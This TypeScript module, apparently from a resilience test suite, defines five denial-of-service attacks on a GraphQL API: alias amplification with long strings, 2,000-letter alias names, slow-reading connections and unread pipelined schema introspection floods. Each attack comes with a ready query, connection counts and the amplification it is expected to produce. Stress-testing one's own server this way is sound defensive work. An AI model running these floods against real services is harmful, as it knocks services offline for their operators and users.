/** Answers that are much larger than what asked for them, and answers that nobody takes. */
import type { Attack } from '../attack.ts'
import { repeat } from '../requests.ts'

const aliases = (count: number, field: string): string => repeat(count, (number) => `a${number}:${field}`)
/** Within 100,000 bytes of body. */
const longAlias = 'a'.repeat(2000)

export const answerAttacks: readonly Attack[] = [
  {
    name: 'aliased-strings',
    what: '50 aliases of a long string, of 100 messages: 6 calls, 225 million characters',
    run(attacker) {
      const query = `{contact(uuid:"1"){messages(first:100){nodes{${aliases(50, 'text')}}}}}`
      const request = attacker.graphql(query)
      return attacker.flood(() => request, { connections: 4 })
    },
  },
  {
    name: 'long-strings',
    what: 'long strings without aliases: 42 calls, 36 million characters',
    run(attacker) {
      const contact = '{uuid messages(first:20){nodes{text}}}'
      const query = `{a:contacts(first:20){nodes${contact}} b:contacts(first:20){nodes${contact}}}`
      const request = attacker.graphql(query)
      return attacker.flood(() => request, { connections: 8 })
    },
  },
  {
    name: 'long-aliases',
    what: '45 aliases of 2,000 letters, of 800 messages: 42 calls, 72 million letters',
    run(attacker) {
      const fields = repeat(45, (number) => `${longAlias}${number}:status`)
      const request = attacker.graphql(`{contacts(first:40){nodes{messages(first:20){nodes{${fields}}}}}}`)
      return attacker.flood(() => request, { connections: 4 })
    },
  },
  {
    name: 'slow-readers',
    what: 'answers of 4 MB, of which each of 40 connections takes 1 kB every 100 ms',
    async run(attacker) {
      const request = attacker.graphql('{contact(uuid:"1"){messages(first:100){nodes{text}}}}')
      await attacker.hold({
        connections: 40,
        isRead: false,
        begin({ socket, write }) {
          write(request)
          const timer = setInterval(() => void socket.read(1024), 100)
          socket.once('close', () => clearInterval(timer))
        },
      })
    },
  },
  {
    name: 'unread-pipeline',
    what: '40 requests for the whole schema on each of 500 connections, and no answer is read',
    run(attacker) {
      const request = attacker.graphql('{__schema{types{name description fields{name description}}}}')
      return attacker.flood(() => request, { connections: 500, inFlight: 40, isRead: false })
    },
  },
]
